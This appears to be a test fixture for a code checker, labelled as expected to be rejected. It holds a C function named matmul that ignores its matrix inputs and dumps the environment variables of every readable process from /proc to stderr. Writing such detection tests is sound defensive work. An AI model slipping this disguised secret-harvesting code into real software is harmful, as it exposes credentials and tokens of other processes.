/* SPDX-License-Identifier: Apache-2.0 */
/*
 * expect: rejected check: forbidden_symbol
 * why: reads the environment of every process it can see
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

void
matmul(const float *A, const float *B, float *C, int M, int N, int K)
{
	char path[64], text[4096];

	(void)A, (void)B, (void)C, (void)M, (void)N, (void)K;
	for (int pid = 1; pid < 40000; pid++) {
		int fd;
		ssize_t n;

		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		fd = open(path, O_RDONLY);
		while (fd >= 0 && (n = read(fd, text, sizeof text)) > 0)
			if (write(2, text, (size_t)n) < 0)
				return;
		if (fd >= 0)
			close(fd);
	}
}
